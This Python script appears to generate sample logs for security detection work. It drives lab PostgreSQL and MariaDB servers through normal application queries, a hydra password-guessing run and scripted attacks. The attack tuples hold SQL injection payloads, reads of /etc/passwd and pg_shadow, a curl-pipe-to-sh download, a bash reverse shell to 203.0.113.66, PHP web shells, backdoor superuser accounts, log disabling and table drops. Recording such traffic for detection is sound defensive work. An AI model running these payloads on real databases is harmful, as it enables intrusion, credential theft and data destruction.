"""PostgreSQL and MariaDB: an application at work, then guessed passwords, files and programs through SQL."""

from __future__ import annotations

import time
from pathlib import Path
from random import Random
from typing import TYPE_CHECKING

from docs.samples.recording.recordings import Recording

if TYPE_CHECKING:
    from collections.abc import Sequence

    from docs.samples.recording.machine import Machine, Network
    from docs.samples.recording.recordings import Logs

FILES = Path(__file__).resolve().parent / "files"
APPLICATION = "10.49.2.10"
REPORTS = "10.49.8.22"
INTRUDER = "10.49.8.35"  # a desk that is no longer its owner's
WORDS = "123456\nadmin\npostgres\nmatkhau\nquantri\nquantri2026\n"
BIN = "/usr/lib/postgresql/*/bin"
PG = "/var/log/postgresql/postgresql"
PG_HOST = "10.49.2.60"
MARIA_HOST = "10.49.2.61"
CHARACTERS = "--default-character-set=utf8mb4"
PG_STATEMENTS = (
    "select ma, trang_thai from ho_so where ma = 'H49-{n}'",
    "update ho_so set trang_thai = 'Đã xong' where ma = 'H49-{n}'",
    "select count(*) from ho_so where trang_thai = 'Đang xử lý'",
    "insert into ho_so values ('H50-{n}', 'Đăng ký thường trú', 'Mới nộp') on conflict do nothing",
    "select ho_ten from cong_dan where so_dinh_danh = '000000000{n}'",
)
PG_REPORTS = ("select xa, count(*) from cong_dan group by xa", "select count(*) from ho_so")
PG_ATTACK_APPLICATION = (
    "select ma from ho_so where ma = 'x' union select usename || ':' || coalesce(passwd, '') from pg_shadow--'",
    "select ma from ho_so where ma = 'x' and 1 = (select 1 from pg_sleep(1))--'",
    "select ma from ho_so where ma = '''",
    "select pg_read_file('/etc/passwd')",
    "copy (select 1) to program 'curl http://203.0.113.66/x.sh | sh'",
    "alter role cong_dvc superuser",
    "copy cong_dan to stdout",
)
PG_ATTACK_ADMINISTRATOR = (
    "create table lenh (dong text)",
    "copy lenh from program 'id'",
    "copy (select '') to program 'true # bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
    "select lo_import('/etc/passwd')",
    "create role hotro superuser login password 'Hotro-2026'",
    "alter system set log_statement = 'none'",
    "drop table cong_dan",
    "drop table ho_so",
)
MARIA_STATEMENTS = (
    "select so, trich_yeu from cong_van where so = {n}",
    "insert into cong_van (trich_yeu) values ('Công văn số {n}')",
    "update cong_van set trich_yeu = 'Giấy mời họp lần {n}' where so = 3",
    "select count(*) from cong_van where mat = 0",
)
MARIA_ATTACK_APPLICATION = (
    "select trich_yeu from cong_van where so = -1 union select concat(ten, ':', ma_bam) from nguoi_dung-- -",
    "select trich_yeu from cong_van where so = 1 and sleep(1)-- -",
    "select trich_yeu from cong_van where so = 1 and extractvalue(1, concat(0x7e, version()))",
    "select load_file('/etc/passwd')",
    "select '<?php system($_GET[0]); ?>' into outfile '/var/www/html/anh.php'",
    "select * from mysql.user",
)
MARIA_ATTACK_ADMINISTRATOR = (
    "select user, host, authentication_string from mysql.user",
    "select '<?php system($_GET[0]); ?>' into outfile '/var/lib/mysql-files/anh.php'",
    "create function sys_exec returns int soname 'lib_mysqludf_sys.so'",
    "create user 'hotro'@'%' identified by 'Hotro-2026'",
    "grant all privileges on *.* to 'hotro'@'%' with grant option",
    "set global general_log_file = '/var/log/mysql/general.log'",
    "drop table van_ban.nguoi_dung",
    "drop database van_ban",
)


def postgresql(network: Network) -> Logs:
    """Record PostgreSQL: the same messages on standard error, as CSV and as JSON."""
    server, desks = machines(network, "csdl01.gov.example", PG_HOST)
    begin_postgresql(server)
    psql(desks, "cong_dvc:Cong-dich-vu-1", drawn(PG_STATEMENTS, 50, seed=51), APPLICATION)
    psql(desks, "bao_cao:Bao-cao-2026", PG_REPORTS, REPORTS)
    normal = {"database/postgresql-normal.log": server.take(f"{PG}.log")}
    for end in ("csv", "json"):
        server.take(f"{PG}.{end}")
    guess(desks, f"postgres://{PG_HOST}/dich_vu_cong", "postgres\nadmin\n")
    psql(desks, "cong_dvc:Cong-dich-vu-1", PG_ATTACK_APPLICATION, APPLICATION)
    psql(desks, "cong_dvc:Cong-dich-vu-1", drawn(PG_STATEMENTS, 15, seed=52), APPLICATION)
    psql(desks, "postgres:quantri2026", PG_ATTACK_ADMINISTRATOR, INTRUDER)
    psql(desks, "cong_dvc:Cong-dich-vu-1", drawn(PG_STATEMENTS, 5, seed=53), APPLICATION)
    return {**normal, **{f"database/postgresql.{end}": server.take(f"{PG}.{end}") for end in ("log", "csv", "json")}}


def begin_postgresql(server: Machine) -> None:
    """Make a cluster with the portal's tables, start it and let the network in."""
    for folder in ("/run/postgresql", "/var/log/postgresql", "/srv/csdl"):
        server.folder(folder, "postgres", "700")
    as_owner = "setpriv --reuid postgres --regid postgres --init-groups"
    server.run(f"{as_owner} {BIN}/initdb -D /srv/csdl -E UTF8 --locale=C.UTF-8 --auth-host=scram-sha-256")
    server.path("/srv/csdl/postgresql.conf").write_text((FILES / "postgresql.conf").read_text(encoding="utf-8"))
    with server.path("/srv/csdl/pg_hba.conf").open("a") as rules:
        rules.write("host all all 10.0.0.0/8 scram-sha-256\n")
    server.start(f"exec {as_owner} {BIN}/postgres -D /srv/csdl")
    server.wait(f"{as_owner} psql -h /run/postgresql -c 'select 1'")
    server.write("/tmp/bang.sql", (FILES / "postgresql.sql").read_text(encoding="utf-8"))  # noqa: S108 - the machine's
    server.run(f"{as_owner} psql -v ON_ERROR_STOP=1 -h /run/postgresql -f /tmp/bang.sql")
    server.run(f"{as_owner} psql -h /run/postgresql -c \"alter role postgres password 'quantri2026'\"")
    for end in ("log", "csv", "json"):
        server.take(f"{PG}.{end}")


def psql(desks: Machine, account: str, statements: Sequence[str], address: str) -> None:
    """Run statements in one session, from an address."""
    come_from(desks, address)
    name, _, password = account.partition(":")
    uri = f"postgresql://{name}:{password}@{PG_HOST}/dich_vu_cong"
    desks.run(["psql", uri, "-qX"], stdin="".join(f"{one}\n;\n" for one in statements), check=False)
    time.sleep(1)  # until the collector has written all of it


def mariadb(network: Network) -> Logs:
    """Record MariaDB: its general log, where every statement is, and its error log, where refused logins are."""
    server, desks = machines(network, "csdl02.gov.example", MARIA_HOST)
    begin_mariadb(server)
    general, errors = "/var/log/mysql/general.log", "/var/log/mysql/error.log"
    maria(desks, "trucvb:Truc-van-ban-1", drawn(MARIA_STATEMENTS, 60, seed=61), APPLICATION)
    normal = {"database/mariadb-general-normal.log": server.take(general)}
    guess(desks, f"mysql://{MARIA_HOST}/van_ban", "root\nadmin\nquantri\n")
    maria(desks, "trucvb:Truc-van-ban-1", MARIA_ATTACK_APPLICATION, APPLICATION)
    maria(desks, "trucvb:Truc-van-ban-1", drawn(MARIA_STATEMENTS, 15, seed=62), APPLICATION)
    maria(desks, "quantri:quantri2026", MARIA_ATTACK_ADMINISTRATOR, INTRUDER)
    maria(desks, "trucvb:Truc-van-ban-1", ["select 1"], APPLICATION)
    logs = {"database/mariadb-general.log": server.take(general), "database/mariadb-error.log": server.take(errors)}
    return {**normal, **logs}


def begin_mariadb(server: Machine) -> None:
    """Make the data folder with the exchange's tables and start the server."""
    for folder in ("/run/mysqld", "/var/log/mysql", "/var/lib/van-ban", "/var/lib/mysql-files"):
        server.folder(folder, "mysql")
    server.write("/etc/mysql/sentinel.cnf", (FILES / "mariadb.cnf").read_text(encoding="utf-8"))
    server.run("mariadb-install-db --defaults-file=/etc/mysql/sentinel.cnf --skip-test-db")
    server.start(["mariadbd", "--defaults-file=/etc/mysql/sentinel.cnf"])
    server.wait("mariadb -S /run/mysqld/mysqld.sock -e 'select 1'")
    script = (FILES / "mariadb.sql").read_text(encoding="utf-8")
    server.run(["mariadb", "-S", "/run/mysqld/mysqld.sock", CHARACTERS], stdin=script)
    for log in ("general", "error"):
        server.take(f"/var/log/mysql/{log}.log")
    server.run(["mariadb", "-S", "/run/mysqld/mysqld.sock", "-e", "flush general logs"])  # writes the log's heading


def maria(desks: Machine, account: str, statements: Sequence[str], address: str) -> None:
    """Run statements in one session, going on after those that fail, from an address."""
    come_from(desks, address)
    name, _, password = account.partition(":")
    command = ["mariadb", "-h", MARIA_HOST, "-u", name, f"-p{password}", "-f", "-c", CHARACTERS, "van_ban"]
    desks.run(command, stdin="".join(f"{one}\n;\n" for one in statements), check=False)


def machines(network: Network, name: str, address: str) -> tuple[Machine, Machine]:
    """Start a database server and the machines that ask it."""
    server = network.machine(name, f"{address}/8")
    return server, network.machine("may-ban.gov.example", *(f"{one}/8" for one in (APPLICATION, REPORTS, INTRUDER)))


def come_from(desks: Machine, address: str) -> None:
    """Let what follows be sent from one of the addresses."""
    desks.run(f"ip route replace 10.0.0.0/8 dev eth0 src {address}")


def guess(desks: Machine, target: str, names: str) -> None:
    """Guess passwords of the database's administrators."""
    come_from(desks, INTRUDER)
    desks.write("/root/ten", names)
    desks.write("/root/tu", WORDS)
    desks.run(f"hydra -I -t 2 -L /root/ten -P /root/tu {target}", check=False)


def drawn(statements: Sequence[str], count: int, seed: int) -> list[str]:
    """Draw what an application asks its database."""
    random = Random(seed)  # noqa: S311 - drawn for the same result every time
    return [random.choice(statements).replace("{n}", str(random.randint(1, 50))) for _ in range(count)]


RECORDINGS = (
    Recording(
        "postgresql",
        {"/usr/lib/postgresql/*/bin/postgres": "postgresql", "psql": "postgresql-client", "hydra": "hydra"},
        ("database/postgresql-normal.log", *(f"database/postgresql.{end}" for end in ("log", "csv", "json"))),
        postgresql,
    ),
    Recording(
        "mariadb",
        {"mariadbd": "mariadb-server", "mariadb": "mariadb-client", "hydra": "hydra"},
        ("database/mariadb-general-normal.log", "database/mariadb-general.log", "database/mariadb-error.log"),
        mariadb,
    ),
)
